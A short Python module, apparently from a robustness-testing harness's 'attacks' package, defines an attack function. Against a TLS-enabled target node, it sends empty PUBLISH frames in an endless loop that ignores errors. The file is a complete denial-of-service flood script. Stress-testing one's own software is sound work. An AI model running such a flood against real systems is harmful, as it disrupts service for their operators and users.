"""A node floods its link over TLS with empty messages, in the least pieces that TLS has."""

from __future__ import annotations

import contextlib

from link_frames import PUBLISH, frame, published

from attacks.target import Target

ITEM = 1
MEMORY_MIB = 32
PIECES = 512


def attack(target: Target) -> None:
    """Flood one link, where there is a certificate. Nothing comes that would have to be read."""
    if not target.tls:
        return
    link, one = target.joined(scheme="tls"), frame(PUBLISH, published(b"raw.none"))
    with contextlib.suppress(OSError):
        while True:
            for _ in range(PIECES):
                link.socket.sendall(one)
            link.socket.sendall(one * PIECES)
